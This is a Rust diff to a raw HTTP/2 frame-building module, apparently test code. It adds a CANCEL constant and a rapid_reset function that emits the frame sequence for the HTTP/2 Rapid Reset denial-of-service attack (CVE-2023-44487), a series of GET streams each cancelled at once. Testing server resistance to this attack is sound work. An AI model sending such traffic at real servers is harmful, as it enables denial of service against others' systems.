@@ -329,6 +329,8 @@ pub mod raw_h2 {
     pub const GOAWAY: u8 = 0x7;
     pub const CONTINUATION: u8 = 0x9;
     pub const END_STREAM: u8 = 0x1;
+    /// RST_STREAM's error code for a stream no longer wanted.
+    pub const CANCEL: u32 = 0x8;
     pub const END_HEADERS: u8 = 0x4;
     const ACK: u8 = 0x1;
 
@@ -359,6 +361,17 @@ pub mod raw_h2 {
         }
         let flags = END_STREAM | if finished { END_HEADERS } else { 0 };
         frame(HEADERS, flags, stream, &block)
+    }
+
+    /// HTTP/2 rapid reset (CVE-2023-44487): `n` GETs, each cancelled
+    /// (RST_STREAM) at once.
+    pub fn rapid_reset(authority: &str, n: u32) -> Vec<u8> {
+        let mut out = Vec::new();
+        for stream in (1..2 * n).step_by(2) {
+            out.extend(get(stream, authority, "/reset", true));
+            out.extend(frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes()));
+        }
+        out
     }
 
     /// What a connection sent until it closed.
